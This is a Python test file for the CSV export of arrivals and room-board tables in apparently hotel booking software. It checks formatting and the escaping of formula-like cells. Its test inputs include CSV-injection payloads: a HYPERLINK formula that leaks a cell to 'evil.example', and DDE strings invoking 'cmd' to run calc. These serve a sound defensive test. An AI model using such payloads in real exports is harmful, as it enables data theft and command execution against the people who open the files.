"""Arrivals and board as CSV: RFC 4180, and nothing that a spreadsheet would take for a formula."""

from datetime import date

import pytest

from holdfast.http import CSV_MEDIA_TYPE
from holdfast.model.guest import GuestDetails
from holdfast.model.property import PolicyStep
from holdfast.model.stay import BookedPlan, Party
from holdfast.storage.guests import GuestStore
from holdfast.storage.store import Store
from tests.component.desk.desk import Desk
from tests.component.desk.front_desk import FrontDesk, put_booking
from tests.kit.front_door import GUEST

DAY = "2026-12-10"


def guest_named(desk: Desk, **said: str) -> str:
    booking_id = desk.door.held()
    assert desk.door.put_guest(booking_id, **said).status == 200
    desk.door.confirm(booking_id)
    return booking_id


def test_a_row_of_the_arrivals(desk: Desk, front_desk: FrontDesk) -> None:
    booking_id = guest_named(desk)

    reply = front_desk.raw_table("arrivals", date=DAY)

    assert reply.headers["Content-Type"] == CSV_MEDIA_TYPE == "text/csv; charset=utf-8"
    header, row, end = reply.body.split("\r\n")
    assert header == (
        "booking_id,status,room_type_id,check_in,check_out,nights,rooms,guests,plan_id,occupancy,checked_in_at,"
        "checked_out_at,no_show,guest_name,email,phone,country,arrival_time,wishes"
    )
    assert row == (
        f"{booking_id},confirmed,deluxe,2026-12-10,2026-12-13,3,1,2,,,,,,Asha Rao,asha.rao@example.com,'+919876543210,"
        'IN,18:30,"A quiet room, please"'
    )
    assert end == ""


def test_plan_occupancy_and_no_show_in_words(front_desk: FrontDesk, store: Store) -> None:
    put_booking(
        store,
        1,
        date(2026, 12, 10),
        date(2026, 12, 11),
        plan=BookedPlan("half-board", "Half board"),
        occupancy=(Party(2, (5, 9)), Party(1, (3,)), Party(1)),
        cancellation_policy=(PolicyStep(7, 100),),
        no_show=True,
    )

    [row] = front_desk.table("arrivals", date=DAY)
    assert row["plan_id"] == "half-board"
    assert row["occupancy"] == "2 adults, children 5 9; 1 adult, child 3; 1 adult"
    assert (row["no_show"], row["guest_name"], row["wishes"]) == ("yes", "", "")


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Asha")',
        "+A1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "＝A1+1",  # noqa: RUF001 - spreadsheets of Japan read it as an equals sign
        '"=A1+1"',
        "Asha, of Udaipur",
        "Zoë 东京",
    ],
)
def test_a_name_is_a_text_and_never_a_formula(name: str, desk: Desk, front_desk: FrontDesk) -> None:
    guest_named(desk, name=name)

    shown = f"'{name}" if name[0] in "=+-@＝" else name  # noqa: RUF001 - the same
    [arrival] = front_desk.table("arrivals", date=DAY)
    assert arrival["guest_name"] == shown
    assert front_desk.table("board", first_night=DAY, nights="1")[0]["guest_or_reason"] == shown


@pytest.mark.parametrize("start", ["\t", "\r", "\n"])
def test_wishes_that_begin_with_white_space_are_texts(
    start: str, front_desk: FrontDesk, store: Store, desk: Desk
) -> None:
    """The API takes none of them at the start of a wish; an item of the table may have them all the same."""
    booking_id = guest_named(desk)
    booking = store.booking(booking_id)
    assert booking
    wishes = f"{start}=1+1"
    GuestStore(store.table).put_details(GuestDetails(name="Asha", email="a@example.com", wishes=wishes), booking)

    [row] = front_desk.table("arrivals", date=DAY)
    assert row["wishes"] == f"'{wishes}"


def test_lines_within_wishes_stay_in_their_cell(desk: Desk, front_desk: FrontDesk) -> None:
    guest_named(desk, wishes="A cot\n=1+1, please")

    [row] = front_desk.table("arrivals", date=DAY)
    assert row["wishes"] == "A cot\n=1+1, please"
    assert row["guest_name"] == GUEST["name"]


def test_the_rows_of_a_board(desk: Desk, front_desk: FrontDesk) -> None:
    booking_id = guest_named(desk)
    block_id = front_desk.block("2026-12-11", "2026-12-12", rooms=2, reason="=1+1")

    reply = front_desk.raw_table("board", first_night="2026-12-11", nights="2")
    suite = "suite,Suite,2,2,0,,,,,,"
    stay = f"stay,{booking_id},1,Asha Rao,2026-12-10,2026-12-13"
    block = f"maintenance,{block_id},2,'=1+1,2026-12-11,2026-12-13"
    assert reply.body.split("\r\n") == [
        "night,room_type_id,room_type,rooms_on_sale,rooms_free,rooms_blocked,taken_by,id,rooms,guest_or_reason,from,until",
        f"2026-12-11,deluxe,Deluxe,5,2,2,{stay}",
        f"2026-12-11,deluxe,Deluxe,5,2,2,{block}",
        f"2026-12-12,deluxe,Deluxe,5,2,2,{stay}",
        f"2026-12-12,deluxe,Deluxe,5,2,2,{block}",
        f"2026-12-11,{suite}",
        f"2026-12-12,{suite}",
        "",
    ]


@pytest.mark.parametrize(
    ("accept", "is_table"),
    [
        ("text/csv", True),
        ("TEXT/CSV; charset=utf-8", True),
        ("application/json", False),
        ("*/*", False),
        ("text/csvx", False),
        ("", False),
    ],
)
def test_a_table_is_for_those_who_accept_one(accept: str, is_table: bool, front_desk: FrontDesk) -> None:
    for what in ("arrivals", "board"):
        reply = front_desk.ask(what, {}, accept=accept)
        assert (reply.headers["Content-Type"] == CSV_MEDIA_TYPE) == is_table


def test_a_refusal_of_a_table_is_a_problem_document(front_desk: FrontDesk) -> None:
    reply = front_desk.raw_table("board", nights="0")

    assert (reply.status, reply.code) == (422, "invalid_request")
